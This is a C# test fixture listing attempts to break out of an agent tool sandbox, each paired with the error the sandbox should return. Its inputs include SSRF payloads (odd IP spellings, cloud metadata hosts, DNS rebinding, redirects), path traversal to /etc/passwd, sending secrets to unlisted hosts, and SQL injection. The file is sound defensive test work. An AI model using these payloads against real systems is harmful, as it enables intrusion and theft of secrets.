namespace AgentFlow.Sandbox.Tests.Permissions;

/// <summary>All attempts: the table of docs/sandbox.md, in its order.</summary>
internal static class Attempts
{
    private const string Nothing = "{}";

    public static IReadOnlyList<Attempt> All { get; } = [.. Net(), .. Redirects(), .. Secrets(), .. KeyValues(), .. Files(), .. Sql(), .. Others()];

    private static Attempt Fetch(string what, string url, string happened) => new("net", what, $"return (await net.fetch(`{url}`)).status;", happened);

    private static IEnumerable<Attempt> Net() =>
    [
        new("net", "no permission in the manifest", "return typeof net;", "\"undefined\"") { Asked = Nothing },
        new("net", "a host that the manifest does not name", "return (await net.fetch('http://other.test:PORT/')).status;", "This tool may not ask 'http://other.test:PORT': it is none of the hosts that it has been given.") { Asked = """{"net":{"hosts":["http://good.test:PORT"]}}""" },
        new("net", "a name that only ends like one that is granted", "return (await net.fetch('http://evilgood.test:PORT/')).status;", "This tool may not ask 'http://evilgood.test:PORT': it is none of the hosts that it has been given.") { Asked = """{"net":{"hosts":["http://*.good.test:PORT"]}}""" },
        new("net", "HTTP where only HTTPS is granted", "return (await net.fetch('http://good.test:443/')).status;", "This tool may not ask 'http://good.test:443': it is none of the hosts that it has been given."),
        new("net", "a method that is not granted", "return (await net.fetch('http://good.test:PORT/', { method: 'DELETE' })).status;", "This tool may not use DELETE. It may use: GET, HEAD, POST."),
        new("net", "the method CONNECT", "return (await net.fetch('http://good.test:PORT/', { method: 'connect' })).status;", "'CONNECT' is not a method that can be used."),
        Fetch("another port", "http://good.test:22/", "This tool may not ask 'http://good.test:22': it is none of the hosts that it has been given."),
        Fetch("port 0", "http://good.test:0/", "The port in 'good.test:0' is not a number from 1 to 65535."),
        Fetch("another scheme", "file:///etc/passwd", "The address must begin with https:// or http://."),
        Fetch("a user name before the host", "http://good.test@private.test/", "The address has a user name or password before the host. Leave it out, and use a header."),
        Fetch("a password before the host", "http://good.test:80@private.test/", "The address has a user name or password before the host. Leave it out, and use a header."),
        Fetch("a backslash before the host", "http://good.test\\\\@private.test/", "The address has a space, a backslash or a control character in it. Escape it."),
        Fetch("a tab within the host", "http://good.\\ttest/", "The address has a space, a backslash or a control character in it. Escape it."),
        Fetch("an escape in the host", "http://%31%32%37.0.0.1/", "'%31%32%37.0.0.1' is not a host: letters, digits and hyphens between single dots, and no dot at the end."),
        Fetch("a dot at the end of the host", "http://private.test./", "'private.test.' is not a host: letters, digits and hyphens between single dots, and no dot at the end."),
        Fetch("full-width digits", "http://１２７.０.０.１/", "The host '１２７.０.０.１' has letters that are not ASCII. Write it in its ASCII form (xn--...)."),
        Fetch("circled digits and ideographic dots", "http://①②⑦。0。0。1/", "The host '①②⑦。0。0。1' has letters that are not ASCII. Write it in its ASCII form (xn--...)."),
        Fetch("octal numbers", "http://0177.0.0.1/", "'0177.0.0.1' is a number and not a name. Write an IPv4 address as four decimal numbers without zeros before them."),
        Fetch("hexadecimal numbers", "http://0x7f.0.0.1/", "'0x7f.0.0.1' is a number and not a name. Write an IPv4 address as four decimal numbers without zeros before them."),
        Fetch("one number for the whole address", "http://2130706433/", "'2130706433' is a number and not a name. Write an IPv4 address as four decimal numbers without zeros before them."),
        Fetch("one hexadecimal number", "http://0x7f000001/", "'0x7f000001' is a number and not a name. Write an IPv4 address as four decimal numbers without zeros before them."),
        Fetch("an address with two parts", "http://127.1/", "'127.1' is a number and not a name. Write an IPv4 address as four decimal numbers without zeros before them."),
        Fetch("a number with zeros before it", "http://127.000.000.001/", "'127.000.000.001' is a number and not a name. Write an IPv4 address as four decimal numbers without zeros before them."),
        Fetch("an IPv6 address with a zone", "http://[fe80::1%25eth0]/", "'[fe80::1%25eth0]' is not an IPv6 address."),
        Fetch("a loopback address that is not listed", "http://127.0.0.2/", "'127.0.0.2' has an address that is loopback; it must not be connected to."),
        Fetch("the IPv6 loopback address", "http://[::1]/", "'[::1]' has an address that is loopback; it must not be connected to."),
        Fetch("IPv4 mapped into IPv6", "http://[::ffff:127.0.0.2]/", "'[::ffff:127.0.0.2]' has an address that is loopback; it must not be connected to."),
        Fetch("an address where only names are granted", "http://10.0.0.1/", "This tool may not ask 'http://10.0.0.1': it is none of the hosts that it has been given."),
        Fetch("a name of a private address", "http://private.test/", "'private.test' has an address that is private; it must not be connected to."),
        Fetch("a name of a shared address (Alibaba's metadata)", "http://shared.test/", "'shared.test' has an address that is shared by a provider's customers; it must not be connected to."),
        Fetch("a name of the metadata address", "http://metadata.test/latest/meta-data/", "'metadata.test' has an address that is link-local; it must not be connected to."),
        Fetch("a name of Azure's platform address", "http://azure.test/", "'azure.test' has an address that is a cloud's metadata; it must not be connected to."),
        Fetch("a name of another loopback address", "http://loopback.test/", "'loopback.test' has an address that is loopback; it must not be connected to."),
        Fetch("a name of 0.0.0.0", "http://zero.test/", "'zero.test' has an address that is unspecified; it must not be connected to."),
        Fetch("a name of a multicast address", "http://multicast.test/", "'multicast.test' has an address that is multicast; it must not be connected to."),
        Fetch("a name of a documentation address", "http://documentation.test/", "'documentation.test' has an address that is for documentation; it must not be connected to."),
        Fetch("a name of a mapped address", "http://mapped.test/", "'mapped.test' has an address that is private; it must not be connected to."),
        Fetch("a name of an IPv4-compatible address", "http://compatible.test/", "'compatible.test' has an address that is unspecified, or IPv4 in an old form; it must not be connected to."),
        Fetch("a name of a 6to4 address", "http://sixtofour.test/", "'sixtofour.test' has an address that is a tunnel (6to4); it must not be connected to."),
        Fetch("a name of a NAT64 address of a private one", "http://nat64.test/", "'nat64.test' has an address that is private; it must not be connected to."),
        Fetch("a name of a Teredo address", "http://teredo.test/", "'teredo.test' has an address that is a tunnel (Teredo); it must not be connected to."),
        Fetch("a name of the IPv6 loopback address", "http://loopback6.test/", "'loopback6.test' has an address that is loopback; it must not be connected to."),
        Fetch("a name of a unique local address (EC2's metadata)", "http://unique-local.test/", "'unique-local.test' has an address that is private; it must not be connected to."),
        Fetch("a name of a link-local IPv6 address", "http://linklocal6.test/", "'linklocal6.test' has an address that is link-local; it must not be connected to."),
        new("net", "a name whose second answer is private (DNS rebinding)", "await net.fetch('http://rebind.test:PORT/close'); return (await net.fetch('http://rebind.test:PORT/close')).status;", "'rebind.test' has an address that is loopback; it must not be connected to."),
        Fetch("a name with a private and a listed address", "http://mixed.test:PORT/", "200"),
        new("net", "a header of the connection", "return await net.fetch('http://good.test:PORT/', { headers: { Host: 'private.test' } });", "Header 'Host' is set by the sandbox."),
        new("net", "a line break in a header", "return await net.fetch('http://good.test:PORT/', { headers: { 'X-A': 'a\\r\\nHost: private.test' } });", "Header 'X-A' has a line break or another character in it that a header cannot have."),
        new("net", "headers of the surroundings", "return (await net.fetch('http://good.test:PORT/')).body;", "\"Accept-Encoding Host\""),
        new("net", "a cookie from an earlier answer", "await net.fetch('http://good.test:PORT/cookie'); return (await net.fetch('http://good.test:PORT/cookie')).body;", "\"\""),
        new("net", "an answer without end", "return (await net.fetch('http://good.test:PORT/large')).status;", "The answer has more than 100000 bytes, which is the most that is read."),
        new("net", "an answer that is large only when decompressed", "return (await net.fetch('http://good.test:PORT/bomb')).status;", "The answer has more than 100000 bytes, which is the most that is read."),
        new("net", "an answer that does not come", "return (await net.fetch('http://good.test:PORT/slow', { timeoutMs: 200 })).status;", "The request to 'http://good.test:PORT' was given up after 200 ms."),
        new("net", "a large request", "return (await net.fetch('http://good.test:PORT/', { method: 'POST', body: 'x'.repeat(70000) })).status;", "The request has 70023 bytes; at most 65536 are allowed."),
        new("net", "more requests than a call may make", "for (let i = 0; i < 10; i++) await net.fetch('http://good.test:PORT/');", "This call has made 6 requests, which is all that it may."),
    ];

    private static Attempt Redirect(string what, string to, string happened, int status = 302) =>
        new("net", what, $"return (await net.fetch('http://good.test:PORT/', {{ query: {{ status: {status}, to: `{to}` }} }})).status;", happened);

    private static IEnumerable<Attempt> Redirects() =>
    [
        Redirect("a redirect to a name of a private address", "http://private.test/", "'private.test' has an address that is private; it must not be connected to."),
        Redirect("a redirect to an address that is not listed", "http://127.0.0.2/", "'127.0.0.2' has an address that is loopback; it must not be connected to."),
        Redirect("a redirect to an odd spelling", "http://0x7f000001/", "The answer redirects to an address that is not right. '0x7f000001' is a number and not a name. Write an IPv4 address as four decimal numbers without zeros before them."),
        Redirect("a redirect without a scheme", "//private.test/", "'private.test' has an address that is private; it must not be connected to."),
        Redirect("a redirect with backslashes", "\\\\\\\\private.test/", "The answer redirects to an address that is not right. The address must begin with https:// or http://."),
        Redirect("a redirect to a file", "file:///etc/passwd", "The answer redirects to an address that is not right. The address must begin with https:// or http://."),
        new("net", "a redirect to a host that the manifest does not name", "return (await net.fetch('http://good.test:PORT/', { query: { status: 307, to: 'http://other.test:PORT/' } })).status;", "This tool may not ask 'http://other.test:PORT': it is none of the hosts that it has been given.") { Asked = """{"net":{"hosts":["http://good.test:PORT"]}}""" },
        new("net", "redirects without end", "return (await net.fetch('http://good.test:PORT/?status=302&to=%3Fstatus%3D302%26to%3D%253Fstatus%253D302%2526to%253D%25253Fstatus%25253D302%252526to%25253Dx')).status;", "The answer redirects for the 4. time; at most 3 redirects are followed."),
    ];

    private static IEnumerable<Attempt> Secrets() =>
    [
        new("secrets", "read it as a variable", "return [typeof secrets, typeof process, typeof API_KEY];", "[\"undefined\",\"undefined\",\"undefined\"]"),
        new("secrets", "send it to a host for which it is not meant", "return (await net.fetch('http://other.test:PORT/echo', { headers: { 'X-Key': '${secret:API_KEY}' } })).status;", "Secret 'API_KEY' must not be sent to 'http://other.test:PORT'."),
        new("secrets", "let a redirect carry it to another host", "return (await net.fetch('http://good.test:PORT/', { headers: { 'X-Key': '${secret:API_KEY}' }, query: { status: 307, to: 'http://other.test:PORT/echo' } })).body;", "\"    YW5uOg== \""),
        new("secrets", "put it into the address", "return (await net.fetch('http://good.test:PORT/${secret:API_KEY}')).status;", "Secrets go into headers only, not into the address or the body, where they would be logged."),
        new("secrets", "put it into the body", "return (await net.fetch('http://good.test:PORT/', { method: 'POST', body: { key: '${secret:API_KEY}' } })).status;", "Secrets go into headers only, not into the address or the body, where they would be logged."),
        new("secrets", "use one that the manifest does not name", "return (await net.fetch('http://good.test:PORT/', { headers: { 'X-Key': '${secret:DB_PASSWORD}' } })).status;", "This tool has no secret 'DB_PASSWORD'. Its manifest names: API_KEY."),
        new("secrets", "get it back from a server that repeats it", "const r = await net.fetch('http://good.test:PORT/echo', { headers: { 'X-Key': '${secret:API_KEY}' } }); return r.headers['x-echo'] + ' ' + r.body;", "\"[secret:API_KEY] [secret:API_KEY] [secret:API_KEY] [secret:API_KEY] [secret:API_KEY] YW5uO[secret:API_KEY]== [secret:API_KEY]\""),
    ];

    private static IEnumerable<Attempt> KeyValues() =>
    [
        new("kv", "no permission in the manifest", "return typeof kv;", "\"undefined\"") { Asked = Nothing },
        new("kv", "list what other tenants, sessions and tools keep", "return await kv.list();", "[]"),
        new("kv", "read a key that another tenant has", "return await kv.get('plan');", "null"),
        new("kv", "leave the namespace by a key that looks like a path", "return [await kv.get('../plan'), await kv.get('session/s1/notes/plan'), await kv.get('/plan'), await kv.get('s1\\u0000plan')];", "[null,null,null,null]"),
        new("kv", "delete another tenant's key", "await kv.delete('plan');", "theirs: \"theirs\"") { Look = async w => $"theirs: {await w.TheirValueAsync()}" },
        new("kv", "a value that is too large", "await kv.set('a', 'x'.repeat(1000));", "The value of 'a' has 1002 characters as JSON; at most 100 are allowed."),
        new("kv", "more keys than there may be, side by side", "const r = await Promise.allSettled([1, 2, 3, 4, 5, 6].map(i => kv.set('k' + i, i))); return [(await kv.list()).length, r.find(x => x.reason).reason.message];", "[3,\"There are 3 keys already; at most 3 are allowed. Delete some.\"]"),
        new("kv", "a key that is none", "await kv.set('', 1);", "A key has from 1 to 256 characters; this one has 0."),
    ];

    private static Attempt Read(string what, string path, string happened) => new("files", what, $"return await files.read(`{path}`);", happened);

    private static IEnumerable<Attempt> Files() =>
    [
        new("files", "no permission in the manifest", "return typeof files;", "\"undefined\"") { Asked = Nothing },
        Read("a path upwards", "data/../private.txt", "The path 'data/../private.txt' cannot be used: '..' is not allowed in it."),
        Read("a path upwards from a folder", "data/sub/../../private.txt", "The path 'data/sub/../../private.txt' cannot be used: '..' is not allowed in it."),
        Read("an absolute path", "/etc/passwd", "The path '/etc/passwd' cannot be used: a part of it is empty; write ROOT/NAME, without a / at the beginning or the end."),
        Read("a Windows path", "C:\\\\Windows\\\\win.ini", "The path 'C:\\Windows\\win.ini' cannot be used: characters such as \\ : * ? and control characters are not allowed in it."),
        Read("backslashes upwards", "data\\\\..\\\\private.txt", "The path 'data\\..\\private.txt' cannot be used: characters such as \\ : * ? and control characters are not allowed in it."),
        Read("an escaped path upwards", "data/%2e%2e/private.txt", "There is no plain file 'data/%2e%2e/private.txt'."),
        Read("full-width dots and slashes", "data/．．／private.txt", "There is no plain file 'data/．．／private.txt'."),
        Read("a NUL in the path", "data/report.txt\\u0000.png", "The path 'data/report.txt?.png' cannot be used: characters such as \\ : * ? and control characters are not allowed in it."),
        Read("a stream of a file (NTFS)", "data/report.txt::$DATA", "The path 'data/report.txt::$DATA' cannot be used: characters such as \\ : * ? and control characters are not allowed in it."),
        Read("the name of a device", "data/NUL.txt", "The path 'data/NUL.txt' cannot be used: 'NUL.txt' is the name of a device."),
        Read("a name that Windows shortens", "data/report.txt.", "The path 'data/report.txt.' cannot be used: a name in it begins with a space, or ends with a space or a dot."),
        Read("a link to a file outside", "data/link.txt", "There is no plain file 'data/link.txt'."),
        Read("a link to a folder above", "data/above/private.txt", "There is no plain file 'data/above/private.txt'."),
        new("files", "list a folder through a link", "return await files.list('data/above');", "There is no folder 'data/above'."),
        new("files", "list a folder with links in it", "return (await files.list('data')).map(e => e.name);", "[\"large.txt\",\"pipe\",\"report.txt\",\"sub\"]"),
        Read("a root in another case", "DATA/report.txt", "There is no root 'DATA' for this tool. It has: data, out."),
        Read("a root that was not granted", "etc/passwd", "There is no root 'etc' for this tool. It has: data, out."),
        Read("a folder as a file", "data/sub", "There is no plain file 'data/sub'."),
        Read("a pipe that nobody writes to", "data/pipe", "There is no plain file 'data/pipe'."),
        Read("a file that is too large", "data/large.txt", "The file has 2000 bytes; at most 1000 are read."),
        new("files", "write where one may read", "await files.write('data/report.txt', 'mine');", "Root 'data' may only be read."),
        new("files", "write through a link", "await files.write('out/link.txt', 'mine');", "'out/link.txt' cannot be written: its folder is not there, or it is not a plain file."),
        new("files", "write through a link, and look at what it leads to", "await files.write('out/link.txt', 'mine').catch(() => 0);", "private") { Look = async w => await File.ReadAllTextAsync(w["private.txt"], TestContext.Current.CancellationToken) },
        new("files", "write a file that is too large", "await files.write('out/a.txt', 'x'.repeat(2000));", "The text has 2000 bytes; at most 1000 are written."),
        new("files", "write to a root that the manifest only reads", "await files.write('out/a.txt', 'mine');", "Root 'out' may only be read.") { Asked = """{"files":{"read":["out"]}}""" },
    ];

    private static Attempt Query(string what, string statement, string happened) => new("sql", what, $"return await sql.query('shop', `{statement}`);", happened);

    private static IEnumerable<Attempt> Sql() =>
    [
        new("sql", "no permission in the manifest", "return typeof sql;", "\"undefined\"") { Asked = Nothing },
        new("sql", "a database that was not granted", "return await sql.query('main', 'SELECT 1');", "Database 'main' is not there for this tool. It may ask: shop."),
        Query("change rows", "UPDATE goods SET price = 0", "The statement was not run: it does something else than read. Only a single SELECT is run."),
        Query("delete a table", "DROP TABLE goods", "The statement was not run: it does something else than read. Only a single SELECT is run."),
        Query("open another file", "ATTACH DATABASE '/etc/passwd' AS other", "The statement was not run: it does something else than read. Only a single SELECT is run."),
        Query("write a copy of the database", "VACUUM INTO '/tmp/copy.db'", "The statement was not run: it is not a SELECT."),
        Query("change a setting", "PRAGMA writable_schema = 1", "The statement was not run: it does something else than read. Only a single SELECT is run."),
        Query("load a library", "SELECT load_extension('/tmp/x.so')", "The statement was not run: function 'load_extension' may not be called."),
        Query("a table that was not granted", "SELECT * FROM people", "The statement was not run: table 'people' may not be read."),
        Query("the schema", "SELECT sql FROM sqlite_master", "The statement was not run: table 'sqlite_master' may not be read."),
        Query("a second statement", "SELECT 1; DELETE FROM goods", "The statement was not run: it does something else than read. Only a single SELECT is run."),
        new("sql", "a value that is a statement", "return (await sql.query('shop', 'SELECT name FROM goods WHERE name = ?', [\"' OR 1=1; DROP TABLE goods --\"])).rows;", "[]"),
        new("sql", "more rows than are read", "const r = await sql.query('shop', 'SELECT name FROM goods'); return [r.rows.length, r.truncated];", "[3,true]"),
    ];

    private static IEnumerable<Attempt> Others() =>
    [
        new("clock", "see the clock move without permission", "const a = Date.now(), b = Date.now(); return [typeof clock, b - a];", "[\"undefined\",0]"),
        new("random", "get other numbers than in the call before without permission", "return [typeof random, Math.random()];", "[\"undefined\",0.8630063416893342]"),
        new("log", "a line that looks like two", "log.info('first\\nERROR second\\u2028third');", "first ERROR second third") { Look = w => ValueTask.FromResult(w.Log.Single().Message) },
        new("log", "more lines than a call may write", "for (let i = 0; i < 1000; i++) log.info('x');", "100 lines, and: (what the call logs beyond 100 lines is dropped)") { Look = w => ValueTask.FromResult($"{w.Log.Count(l => l.Message == "x")} lines, and: {w.Log[^1].Message}") },
        new("tools", "call a tool without permission", "return typeof tools;", "\"undefined\""),
        new("tools", "call a tool that the manifest does not name", "return typeof tools.pay;", "\"undefined\"") { Asked = """{"tools":["lookup"]}""" },
    ];
}
